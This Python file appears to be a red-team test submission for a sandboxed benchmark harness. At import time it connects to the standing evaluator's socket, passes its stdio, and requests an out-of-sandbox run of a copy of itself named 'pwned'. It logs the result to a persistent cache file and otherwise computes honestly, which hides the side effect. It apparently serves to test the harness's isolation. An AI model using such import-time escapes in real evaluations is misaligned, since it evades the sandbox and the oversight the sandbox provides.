"""Attack (a run outside the sandbox): ask the standing evaluator that forked this worker for a run of another file.

At import, it connects to the socket a command line of this checkout would use (harness.forward.address),
hands over its own stdio and asks for a test run of a file it writes, stored under the name `pwned`: the forked
evaluator would write records that no sandbox holds. It writes what it got to redteam_server_request.log in its
build cache (XDG_CACHE_HOME: writable under the sandbox, and kept after the run). Computes honestly."""
import os
import socket
import time

from _honest import honest

from harness import channel
from harness.forward import address

LOG = os.path.join(os.environ["XDG_CACHE_HOME"], "redteam_server_request.log")


def ask() -> str:
    name = address()
    if name is None:
        return "no address"
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        sock.connect(name)
    except OSError as exc:
        return f"connect refused: {exc}"
    own = os.path.join(os.environ.get("TMPDIR", "/tmp"), "pwned.py")
    with open(own, "w") as f:
        f.write(open(__file__.replace("server_request.py", "_honest.py")).read())
    argv = ["--task", "gemm", "--submission", own, "--name", "pwned", "--mode", "test", "--shapes", "smoke"]
    try:
        channel.send(sock.fileno(), "request", fds=(0, 1, 2), argv=argv, cwd="/", env=dict(os.environ))
    except OSError:
        pass  # a server that refuses at once may have closed before the request was sent; its answer is still there
    try:
        answer = channel.Reader(sock.fileno()).receive(time.monotonic() + 10)
    except (OSError, channel.Closed, channel.Garbled) as exc:
        return f"no answer: {exc!r}"
    return f"answer: {answer}"


with open(LOG, "a") as log:
    log.write(ask() + "\n")


def custom_kernel(data):
    return honest(data)
